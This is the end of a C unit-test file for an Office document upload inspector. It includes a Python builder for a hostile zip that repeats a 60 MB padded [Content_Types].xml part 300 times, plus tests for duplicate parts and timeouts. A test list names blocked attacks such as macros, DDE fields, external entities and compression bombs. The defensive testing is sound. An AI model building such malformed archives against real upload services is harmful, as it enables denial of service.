"        cd += struct.pack('<IHHHHHHIIIHHHHHII', 0x02014b50, 20, 20, 0, 8, 0, 0, crc, len(comp), len(data),\n"
"                          len(nb), 0, 0, 0, 0, 0, off) + nb\n"
"    return bytes(body + cd + struct.pack('<IHHHHIIH', 0x06054b50, 0, 0, len(entries), len(entries), len(cd), len(body), 0))\n"
"big = (ct([('/xl/workbook.xml', XMAIN)])[:-len('</Types>')] + ' ' * (60 << 20) + '</Types>').encode()\n"
"parts = [(n, d.encode() if isinstance(d, str) else d) for n, d in xlsx()]\n"
"entries = [(n, d, deflate(d)) for n, d in parts]\n"
"copy = ('[Content_Types].xml', big, deflate(big))\n"
"open(out, 'wb').write(rawzip(entries + [copy] * 300))\n";

START_TEST(ooxml_rejects_content_types_named_many_times_quickly)
{
	struct inspect_result res;
	struct timespec start, now;
	enum ooxml_kind kind;
	const char *path = build(ct_copies);

	clock_gettime(CLOCK_MONOTONIC, &start);
	(void)inspect_path(path, "", &res, &kind);
	clock_gettime(CLOCK_MONOTONIC, &now);
	ck_assert_msg(now.tv_sec - start.tv_sec < 30, "took %ld s", (long)(now.tv_sec - start.tv_sec));
	ck_assert_msg(find_on(&res, "ooxml-duplicate-part", "[Content_Types].xml") != NULL,
	    "got %zu findings%s%s %s", res.nfindings, res.nfindings ? ": " : "",
	    res.nfindings ? res.findings[0].code : "", res.nfindings ? res.findings[0].detail : "");
	ck_assert_int_eq(res.accepted, 0);
}
END_TEST

START_TEST(ooxml_rejects_content_types_twice_in_other_case)
{
	rejected("write(xlsx() + [('[content_types].XML', ct())])", "ooxml-duplicate-part", NULL);
}
END_TEST

START_TEST(ooxml_stops_when_the_upload_clock_has_run_out)
{
	/* a package inside an archive shares the upload's clock */
	struct inspect_result res;
	struct stat st;
	enum ooxml_kind kind;
	const char *path = build("write(xlsx())");
	int fd;

	ck_assert_int_ge(fd = open(path, O_RDONLY), 0);
	ck_assert_int_eq(fstat(fd, &st), 0);
	memset(&res, 0, sizeof(res));
	res.accepted = 1;
	res.deadline.tv_sec = 1;                /* long past */
	(void)ooxml_inspect(fd, (uint64_t)st.st_size, &pol, "", &res, &kind);
	close(fd);
	ck_assert_int_eq(res.accepted, 0);
	ck_assert_ptr_nonnull(find(&res, "inspect-timeout"));
}
END_TEST

int
main(void)
{
	Suite *s = suite_create("ooxml");
	TCase *tc = tcase_create("ooxml");
	SRunner *sr;
	char cmd[128];
	int failed;

	snprintf(tmpdir, sizeof(tmpdir), "/tmp/unit-ooxml-XXXXXX");
	if (mkdtemp(tmpdir) == NULL)
		return EXIT_FAILURE;
	tcase_add_checked_fixture(tc, setup, NULL);
	tcase_add_test(tc, ooxml_accepts_openpyxl_workbook);
	tcase_add_test(tc, ooxml_accepts_openpyxl_web_hyperlink);
	tcase_add_test(tc, ooxml_accepts_minimal_docx);
	tcase_add_test(tc, ooxml_accepts_python_docx);
	tcase_add_loop_test(tc, ooxml_accepts_libreoffice_output, 0, 2);
	tcase_add_test(tc, ooxml_accepts_minimal_pptx);
	tcase_add_test(tc, ooxml_accepts_docx_hyperlink_and_fields);
	tcase_add_test(tc, ooxml_accepts_pipe_inside_formula_strings);
	tcase_add_test(tc, ooxml_accepts_embedded_chart_workbook);
	tcase_add_test(tc, ooxml_accepts_utf16_part);
	tcase_add_test(tc, ooxml_ignores_plain_zip);
	tcase_add_test(tc, ooxml_ignores_non_zip);
	tcase_add_test(tc, ooxml_rejects_macro_enabled_workbook);
	tcase_add_test(tc, ooxml_rejects_macro_enabled_document);
	tcase_add_test(tc, ooxml_rejects_vba_project);
	tcase_add_test(tc, ooxml_rejects_vba_project_any_case);
	tcase_add_test(tc, ooxml_rejects_vba_content_type_alone);
	tcase_add_test(tc, ooxml_rejects_ole_part_whatever_its_name);
	tcase_add_test(tc, ooxml_rejects_ole_object_embedding);
	tcase_add_test(tc, ooxml_rejects_embedded_non_package);
	tcase_add_test(tc, ooxml_rejects_macro_in_embedded_workbook);
	tcase_add_test(tc, ooxml_rejects_activex);
	tcase_add_test(tc, ooxml_rejects_macrosheet_part);
	tcase_add_test(tc, ooxml_rejects_macrosheet_behind_worksheet_name);
	tcase_add_test(tc, ooxml_rejects_remote_template);
	tcase_add_test(tc, ooxml_rejects_external_ole_link);
	tcase_add_test(tc, ooxml_rejects_unc_hyperlink);
	tcase_add_test(tc, ooxml_rejects_external_image);
	tcase_add_test(tc, ooxml_rejects_ddeauto_field);
	tcase_add_test(tc, ooxml_rejects_dde_field_split_over_runs);
	tcase_add_test(tc, ooxml_rejects_dde_in_nested_field);
	tcase_add_test(tc, ooxml_rejects_dde_fldsimple);
	tcase_add_test(tc, ooxml_rejects_dde_in_header_part);
	tcase_add_test(tc, ooxml_rejects_dde_link_part);
	tcase_add_test(tc, ooxml_rejects_dde_formula);
	tcase_add_test(tc, ooxml_rejects_doctype_internal_entities);
	tcase_add_test(tc, ooxml_rejects_doctype_external_entity);
	tcase_add_test(tc, ooxml_rejects_doctype_in_rels);
	tcase_add_loop_test(tc, ooxml_rejects_doctype_utf16, 0, 3);
	tcase_add_test(tc, ooxml_rejects_unknown_encoding);
	tcase_add_test(tc, ooxml_rejects_utf32_part);
	tcase_add_test(tc, ooxml_rejects_deep_xml);
	tcase_add_test(tc, ooxml_rejects_large_part);
	tcase_add_test(tc, ooxml_rejects_malformed_xml);
	tcase_add_test(tc, ooxml_rejects_doctype_in_svg);
	tcase_add_test(tc, ooxml_rejects_encrypted_package);
	tcase_add_test(tc, ooxml_rejects_password_zip_entry);
	tcase_add_test(tc, ooxml_rejects_too_many_parts);
	tcase_add_test(tc, ooxml_rejects_compression_bomb);
	tcase_add_test(tc, ooxml_rejects_truncated_package);
	tcase_add_test(tc, ooxml_prefixes_member_path);
	tcase_add_test(tc, xml_parses_member_by_name);
	tcase_add_test(tc, xml_rejects_duplicate_member);
	tcase_add_test(tc, xml_buffer_limits);
	tcase_add_test(tc, ooxml_rejects_content_types_named_many_times_quickly);
	tcase_add_test(tc, ooxml_rejects_content_types_twice_in_other_case);
	tcase_add_test(tc, ooxml_stops_when_the_upload_clock_has_run_out);
	suite_add_tcase(s, tc);
	sr = srunner_create(s);
	srunner_run_all(sr, CK_NORMAL);
	failed = srunner_ntests_failed(sr);
	srunner_free(sr);
	snprintf(cmd, sizeof(cmd), "rm -rf '%s'", tmpdir);
	if (system(cmd) != 0)
		fprintf(stderr, "could not remove %s\n", tmpdir);
	return failed == 0 ? EXIT_SUCCESS : EXIT_FAILURE;
}
